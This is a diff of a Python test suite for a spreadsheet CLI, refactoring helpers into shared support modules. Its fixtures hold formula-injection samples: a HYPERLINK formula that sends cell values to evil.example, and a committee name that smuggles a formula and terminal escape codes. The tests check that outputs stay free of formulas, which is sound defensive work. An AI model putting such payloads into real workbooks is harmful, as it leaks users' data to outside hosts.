@@ -21,12 +21,11 @@ from pathlib import Path
 import pytest
 from openpyxl.workbook import Workbook
 from python_calamine import CalamineWorkbook
-from typer.testing import CliRunner
 
-import addin.cli.main  # noqa: F401  (registers every command)
-from addin.cli.app import app
 from addin.model.celltext import for_cell, set_text
 from addin.write.layout import DATA_ROW, add_table, columns, new_workbook
+from tests.support.cli import dyxx_ok
+from tests.support.xlsx import strings, with_controls
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&D7&M7,"点我")',
@@ -77,21 +76,6 @@ def _hostile_book(path: Path, shift: int) -> Path:
     return path
 
 
-def with_controls(data: bytes) -> bytes:
-    """set_text wrote the control characters as pictures (␋); put the real ones back."""
-    pictures = {chr(0x2400 + c).encode(): f"_x{c:04X}_".encode() for c in range(0x20)}
-    pictures["\u2421".encode()] = b"_x007F_"
-    out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
-        for info in source.infolist():
-            part = source.read(info.filename)
-            if info.filename.startswith("xl/worksheets/"):
-                for picture, escaped in pictures.items():
-                    part = part.replace(picture, escaped)
-            target.writestr(info, part)
-    return out.getvalue()
-
-
 @pytest.fixture(scope="module")
 def books(tmp_path_factory) -> tuple[Path, Path]:
     folder = tmp_path_factory.mktemp("hostile") / "报送"
@@ -102,72 +86,64 @@ def books(tmp_path_factory) -> tuple[Path, Path]:
     return old, new
 
 
-def dyxx(*args: object) -> None:
-    """One command in-process; it must end normally (exit 0, or 1 for findings/changes)."""
-    result = CliRunner().invoke(app, [str(a) for a in args], env={"COLUMNS": "200"})
-    if result.exception is not None and not isinstance(result.exception, SystemExit):
-        raise result.exception
-    assert result.exit_code in (0, 1), result.output
-
-
 @pytest.fixture(scope="module")
 def summary(books, tmp_path_factory) -> Path:
     out = tmp_path_factory.mktemp("summary") / "汇总.xlsx"
-    dyxx("merge", *books, "-o", out, "--date", "2017-07-10", "--today", "2024-06-01")
+    dyxx_ok("merge", *books, "-o", out, "--date", "2017-07-10", "--today", "2024-06-01")
     return out
 
 
 def _merge(books, summary, out: Path) -> list[Path]:
     named = out / "汇总_党委.xlsx"
     committee = "=1+1\x1b]0;x\x07\x0b党委"
-    dyxx("merge", *books, "-o", named, "--committee", committee)
+    dyxx_ok("merge", *books, "-o", named, "--committee", committee)
     assert for_cell(f"基层党委：{committee}") in strings(named)
     return [summary, named]
 
 
 def _sample(books, summary, out: Path) -> list[Path]:
-    dyxx("sample", summary, "-o", out / "抽查.xlsx", "--ratio", "1", "--seed", "7")
-    dyxx("sample", summary, "-o", out / "抽查_屏蔽.xlsx", "--ratio", "0.5", "--mask")
+    dyxx_ok("sample", summary, "-o", out / "抽查.xlsx", "--ratio", "1", "--seed", "7")
+    dyxx_ok("sample", summary, "-o", out / "抽查_屏蔽.xlsx", "--ratio", "0.5", "--mask")
     return [out / "抽查.xlsx", out / "抽查_屏蔽.xlsx"]
 
 
 def _diff(books, summary, out: Path) -> list[Path]:
-    dyxx("diff", *books, "-o", out / "变动.xlsx")
+    dyxx_ok("diff", *books, "-o", out / "变动.xlsx")
     return [out / "变动.xlsx"]
 
 
 def _check(books, summary, out: Path) -> list[Path]:
-    dyxx("check", books[0], "-o", out / "校验.xlsx", "--today", "2024-06-01")
+    dyxx_ok("check", books[0], "-o", out / "校验.xlsx", "--today", "2024-06-01")
     return [out / "校验.xlsx"]
 
 
 def _recheck(books, summary, out: Path) -> list[Path]:
     """A marked copy checked again: the openpyxl path, its 校验结果 rewritten."""
     _check(books, summary, out)
-    dyxx("check", out / "校验.xlsx", "-o", out / "再校验.xlsx", "--today", "2024-06-01")
+    dyxx_ok("check", out / "校验.xlsx", "-o", out / "再校验.xlsx", "--today", "2024-06-01")
     return [out / "再校验.xlsx"]
 
 
 def _prepare(books, summary, out: Path) -> list[Path]:
-    dyxx("prepare", books[0], "-o", out / "带校验.xlsx")
+    dyxx_ok("prepare", books[0], "-o", out / "带校验.xlsx")
     return [out / "带校验.xlsx"]
 
 
 def _clean(books, summary, out: Path) -> list[Path]:
-    dyxx("check", summary, "-o", out / "汇总_校验.xlsx", "--today", "2024-06-01")
-    dyxx("clean", out / "汇总_校验.xlsx", "-o", out / "导入.xlsx")
+    dyxx_ok("check", summary, "-o", out / "汇总_校验.xlsx", "--today", "2024-06-01")
+    dyxx_ok("clean", out / "汇总_校验.xlsx", "-o", out / "导入.xlsx")
     return [out / "汇总_校验.xlsx", out / "导入.xlsx"]
 
 
 def _forms(books, summary, out: Path) -> list[Path]:
-    dyxx("forms", summary, "-o", out / "采集表", "--no-pdf")
+    dyxx_ok("forms", summary, "-o", out / "采集表", "--no-pdf")
     written = sorted((out / "采集表").glob("*.xlsx"))
     assert written
     return written
 
 
 def _template(books, summary, out: Path) -> list[Path]:
-    dyxx("template", "--dir", out / "模板")
+    dyxx_ok("template", "--dir", out / "模板")
     return sorted((out / "模板").glob("*.xlsx"))
 
 
@@ -237,12 +213,3 @@ def _assert_no_formula(path: Path) -> None:
                 if part.fullmatch(name):
                     refs = [r.decode() for r in CHART_REF.findall(data)]
                     assert all(allowed.fullmatch(r) for r in refs), (name, refs)
-
-
-def strings(path: Path) -> set[str]:
-    book = CalamineWorkbook.from_path(str(path))
-    found: set[str] = set()
-    for name in book.sheet_names:
-        for row in book.get_sheet_by_name(name).to_python():
-            found.update(v for v in row if isinstance(v, str))
-    return found
